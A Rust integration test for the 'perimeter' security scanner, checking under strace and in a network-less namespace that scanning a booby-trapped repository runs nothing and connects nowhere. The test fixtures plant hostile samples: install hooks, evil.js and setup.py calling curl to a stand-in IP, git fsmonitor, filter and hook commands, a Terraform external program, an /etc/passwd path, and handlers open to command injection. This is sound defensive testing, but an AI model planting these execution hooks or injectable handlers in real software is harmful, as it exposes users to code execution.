//! A scan never executes the scanned repository and never reaches the network, whatever its
//! descriptors and code ask for: `${file(./evil.js)}`, `${ssm:}`, `${cf:}`, `${s3:}`, remote
//! Terraform modules and backends, npm install scripts, `setup.py`.
//!
//! Two checks, on a repository built to tempt a scanner:
//! - under `strace -f -e trace=network,process`: the process opens no socket and runs no
//!   program (one `execve`, the scanner's own; every `clone` makes a thread);
//! - inside a network namespace with no interface up (`unshare -n`): the scan succeeds and
//!   its report is byte-identical to the one made outside.
//!
//! Each check is skipped with a message when the tool or the privilege is missing, unless
//! `PERIMETER_REQUIRE_SANDBOX=1` (set by `.ci/run`, which runs as root) makes that a failure.

mod common;

use std::path::Path;
use std::process::{Command, Output};

use common::rules_at;

fn write(root: &Path, rel: &str, text: &str) {
    let p = root.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, text).unwrap();
}

/// A file that each tempting thing would create if the scanner ran it.
const MARKER: &str = "PWNED";

fn hostile_repo(root: &Path) {
    let marker = root.join(MARKER);
    let marker = marker.display();
    write(
        root,
        "api/serverless.yml",
        "service: api\n\
         provider:\n  name: aws\n  runtime: nodejs20.x\n\
         \x20 environment:\n\
         \x20   FROM_JS: ${file(./evil.js):value}\n\
         \x20   FROM_JS_FN: ${file(./evil.js)}\n\
         \x20   DB_PASSWORD: ${ssm:/prod/db/password}\n\
         \x20   OTHER: ${cf:other-stack.OutputKey}\n\
         \x20   OBJ: ${s3:config-bucket/key}\n\
         \x20   SECRET: ${ssm:/aws/reference/secretsmanager/prod}\n\
         \x20   LOCAL: ${file(../../../../etc/passwd)}\n\
         functions:\n  hello:\n    handler: handler.hello\n    events:\n      - httpApi: 'GET /hello'\n",
    );
    // If `${file(./evil.js)}` were resolved the way the framework does, this would run.
    write(
        root,
        "api/evil.js",
        &format!(
            "require('fs').writeFileSync('{marker}', 'js');\n\
             require('child_process').execSync('curl http://198.51.100.1/');\n\
             module.exports = () => ({{ value: 'x' }});\n"
        ),
    );
    write(
        root,
        "api/handler.js",
        "const { execSync } = require('child_process');\n\
         exports.hello = async (event) => {\n\
         \x20 execSync('ls ' + event.queryStringParameters.dir);\n\
         \x20 return { statusCode: 200 };\n};\n",
    );
    write(
        root,
        "api/package.json",
        &format!(
            r#"{{"name":"api","version":"1.0.0","scripts":{{"preinstall":"touch {marker}","postinstall":"node -e \"require('fs').writeFileSync('{marker}','npm')\""}},"dependencies":{{"lodash":"^4.17.0"}}}}"#
        ),
    );
    write(
        root,
        "py/setup.py",
        &format!(
            "import os\nopen('{marker}', 'w').write('setup.py')\nos.system('curl http://198.51.100.1/')\n"
        ),
    );
    write(root, "py/requirements.txt", "-e .\nrequests==2.19.0\n");
    write(
        root,
        "py/template.yaml",
        "AWSTemplateFormatVersion: '2010-09-09'\n\
         Transform: AWS::Serverless-2016-10-31\n\
         Resources:\n  Fn:\n    Type: AWS::Serverless::Function\n    Properties:\n\
         \x20     Handler: app.handler\n      Runtime: python3.12\n      CodeUri: .\n\
         \x20     Environment:\n        Variables:\n\
         \x20         FROM_SSM: '{{resolve:ssm:/prod/param}}'\n\
         \x20         FROM_SECRET: '{{resolve:secretsmanager:prod-secret}}'\n\
         \x20     Events:\n        Api:\n          Type: Api\n          Properties: {Path: /x, Method: get}\n",
    );
    write(
        root,
        "py/app.py",
        "import subprocess\n\ndef handler(event, context):\n    subprocess.run(event['body'], shell=True)\n",
    );
    write(
        root,
        "infra/main.tf",
        "terraform {\n  backend \"s3\" {\n    bucket = \"state\"\n    key = \"k\"\n    region = \"us-east-1\"\n  }\n}\n\
         module \"remote_git\" {\n  source = \"git::https://198.51.100.1/evil.git?ref=main\"\n}\n\
         module \"registry\" {\n  source = \"hashicorp/consul/aws\"\n  version = \"0.1.0\"\n}\n\
         module \"http\" {\n  source = \"https://198.51.100.1/module.zip\"\n}\n\
         data \"external\" \"run\" {\n  program = [\"sh\", \"-c\", \"touch PWNED\"]\n}\n\
         resource \"aws_lambda_function\" \"f\" {\n  function_name = \"f\"\n  handler = \"index.handler\"\n  runtime = \"nodejs20.x\"\n  role = \"arn:aws:iam::123456789012:role/r\"\n  filename = \"f.zip\"\n}\n",
    );
}

fn required() -> bool {
    std::env::var("PERIMETER_REQUIRE_SANDBOX").is_ok_and(|v| v == "1")
}

#[expect(clippy::print_stderr, reason = "a skipped check says why")]
fn skip(why: &str) {
    assert!(!required(), "sandbox check required but impossible: {why}");
    eprintln!("SKIPPED: {why}");
}

/// The scan command line, after `prefix` (a sandboxing program and its arguments).
fn scan(prefix: &[&str], root: &Path, db: &Path) -> Output {
    let bin = env!("CARGO_BIN_EXE_perimeter");
    let mut args: Vec<String> = prefix.iter().map(|s| (*s).to_owned()).collect();
    args.push(bin.to_owned());
    args.extend(
        ["scan", "--format", "json", "--no-cache", "--db"]
            .iter()
            .map(|s| (*s).to_owned()),
    );
    args.push(db.display().to_string());
    args.push(root.display().to_string());
    Command::new(&args[0])
        .args(&args[1..])
        // The environment a CI job might carry must not make the scan look anything up.
        .env("AWS_ACCESS_KEY_ID", "AKIAEXAMPLEEXAMPLE00")
        .env("AWS_SECRET_ACCESS_KEY", "example")
        .env("AWS_REGION", "us-east-1")
        .output()
        .unwrap()
}

fn assert_scanned(out: &Output, root: &Path) -> serde_json::Value {
    assert_eq!(
        out.status.code(),
        Some(1),
        "the scan should find flaws and succeed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        report["summary"]["apps"].as_u64().unwrap() >= 3,
        "{report:#}"
    );
    // Both handlers were analysed: their injections are reported.
    assert!(
        !rules_at(&report, "api/handler.js").is_empty(),
        "{report:#}"
    );
    assert!(!rules_at(&report, "py/app.py").is_empty(), "{report:#}");
    assert!(
        !root.join(MARKER).exists(),
        "something in the scanned tree was executed"
    );
    report
}

#[test]
fn no_connection_and_no_child_process_under_strace() {
    if Command::new("strace").arg("-V").output().is_err() {
        return skip("strace is not installed (Debian package strace; .ci/install-deps)");
    }
    let dir = tempfile::tempdir().unwrap();
    let db = tempfile::tempdir().unwrap();
    let root = dir.path().join("repo");
    hostile_repo(&root);
    let log = dir.path().join("strace.log");
    let log_arg = log.display().to_string();
    let prefix = [
        "strace",
        "-f",
        "-qq",
        "-e",
        "trace=network,process",
        "-o",
        log_arg.as_str(),
    ];
    let out = scan(&prefix, &root, db.path());
    let trace = std::fs::read_to_string(&log).unwrap_or_default();
    if trace.is_empty() || String::from_utf8_lossy(&out.stderr).contains("PTRACE") {
        return skip(&format!(
            "strace cannot trace here: {}",
            String::from_utf8_lossy(&out.stderr)
        ));
    }
    assert_scanned(&out, &root);
    let calls: Vec<&str> = trace
        .lines()
        .filter_map(|l| l.split_once(' ').map(|(_, call)| call.trim_start()))
        .collect();
    let named = |prefix: &str| -> Vec<&str> {
        calls
            .iter()
            .copied()
            .filter(|c| c.starts_with(prefix))
            .collect()
    };
    let execs = named("execve(");
    assert_eq!(execs.len(), 1, "a program was run:\n{trace}");
    assert!(
        execs[0].contains(env!("CARGO_BIN_EXE_perimeter")),
        "{trace}"
    );
    for call in ["fork(", "vfork(", "execveat("] {
        assert!(named(call).is_empty(), "{call} called:\n{trace}");
    }
    for clone in named("clone") {
        assert!(
            clone.contains("CLONE_THREAD"),
            "a process (not a thread) was made: {clone}"
        );
    }
    for call in [
        "socket(",
        "connect(",
        "sendto(",
        "sendmsg(",
        "bind(",
        "socketpair(",
    ] {
        assert!(named(call).is_empty(), "{call} called:\n{trace}");
    }
    // The trace really saw the scan (threads of the parallel analysis).
    assert!(!named("clone").is_empty(), "no thread seen:\n{trace}");
}

#[test]
fn the_scan_is_the_same_without_a_network() {
    let dir = tempfile::tempdir().unwrap();
    let db = tempfile::tempdir().unwrap();
    let root = dir.path().join("repo");
    hostile_repo(&root);
    // Root can make a network namespace; others may through a user namespace.
    let probe = |prefix: &[&str]| {
        Command::new(prefix[0])
            .args(&prefix[1..])
            .args(["ip", "-o", "link"])
            .output()
            .ok()
            .filter(|o| o.status.success())
    };
    let prefix: &[&str] = if probe(&["unshare", "-n"]).is_some() {
        &["unshare", "-n"]
    } else if probe(&["unshare", "-r", "-n"]).is_some() {
        &["unshare", "-r", "-n"]
    } else {
        return skip("cannot make a network namespace (unshare -n, unshare -rn)");
    };
    // Inside, there is no interface but a loopback that is down: nothing can be reached.
    let links = probe(prefix).unwrap();
    let links = String::from_utf8_lossy(&links.stdout);
    assert!(
        links
            .lines()
            .all(|l| l.contains(": lo:") && !l.contains("UP")),
        "{links}"
    );
    let inside = scan(prefix, &root, db.path());
    let report = assert_scanned(&inside, &root);
    let outside = scan(&["env"], &root, db.path());
    assert_eq!(
        String::from_utf8_lossy(&inside.stdout),
        String::from_utf8_lossy(&outside.stdout),
        "the report depends on the network"
    );
    // What perimeter cannot know without the network is reported as not read.
    let text = report.to_string();
    assert!(text.contains("198.51.100.1/evil.git"), "{report:#}");
}

/// `--diff` reads the base revision in-process: under strace, still one `execve` (the
/// scanner's) and no process made, with a `.git/config` whose fsmonitor, filters and hooks
/// would each run a program.
#[test]
fn diff_runs_no_child_process_under_strace() {
    if Command::new("strace").arg("-V").output().is_err() {
        return skip("strace is not installed (Debian package strace; .ci/install-deps)");
    }
    if Command::new("git").arg("--version").output().is_err() {
        return skip("git is not installed (needed to make the test repository)");
    }
    let dir = tempfile::tempdir().unwrap();
    let db = tempfile::tempdir().unwrap();
    let root = dir.path().join("repo");
    hostile_repo(&root);
    let git = |args: &[&str]| {
        let out = Command::new("git")
            .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
            .args(["-c", "commit.gpgsign=false"])
            .args(args)
            .current_dir(&root)
            .output()
            .unwrap();
        assert!(out.status.success(), "git {args:?}");
    };
    git(&["init", "-q"]);
    git(&["add", "-A"]);
    git(&["commit", "-q", "-m", "base"]);
    let marker = root.join(MARKER);
    let touch = format!("touch {}", marker.display());
    let mut config = std::fs::read_to_string(root.join(".git/config")).unwrap();
    config.push_str(&format!(
        "[core]\n\tfsmonitor = {touch}\n[filter \"evil\"]\n\tclean = {touch}\n\tsmudge = {touch}\n\tprocess = {touch}\n"
    ));
    std::fs::write(root.join(".git/config"), config).unwrap();
    write(&root, ".gitattributes", "* filter=evil\n");
    write(
        &root,
        ".git/hooks/post-checkout",
        &format!("#!/bin/sh\n{touch}\n"),
    );
    let log = dir.path().join("strace.log");
    let log_arg = log.display().to_string();
    let bin = env!("CARGO_BIN_EXE_perimeter");
    let out = Command::new("strace")
        .args(["-f", "-qq", "-e", "trace=process", "-o", &log_arg, bin])
        .args([
            "scan",
            "--format",
            "json",
            "--no-cache",
            "--diff",
            "HEAD",
            "--db",
        ])
        .arg(db.path())
        .arg(&root)
        .output()
        .unwrap();
    let trace = std::fs::read_to_string(&log).unwrap_or_default();
    if trace.is_empty() || String::from_utf8_lossy(&out.stderr).contains("PTRACE") {
        return skip(&format!(
            "strace cannot trace here: {}",
            String::from_utf8_lossy(&out.stderr)
        ));
    }
    assert_ne!(
        out.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        report["warnings"].to_string().contains("already present"),
        "the base revision was not compared: {report:#}"
    );
    assert!(
        !marker.exists(),
        "--diff ran something the repository named"
    );
    let calls: Vec<&str> = trace
        .lines()
        .filter_map(|l| l.split_once(' ').map(|(_, call)| call.trim_start()))
        .collect();
    let execs: Vec<&&str> = calls.iter().filter(|c| c.starts_with("execve(")).collect();
    assert_eq!(execs.len(), 1, "a program was run:\n{trace}");
    for call in ["fork(", "vfork(", "execveat("] {
        assert!(
            !calls.iter().any(|c| c.starts_with(call)),
            "{call} called:\n{trace}"
        );
    }
    for clone in calls.iter().filter(|c| c.starts_with("clone")) {
        assert!(
            clone.contains("CLONE_THREAD"),
            "a process (not a thread) was made: {clone}"
        );
    }
}
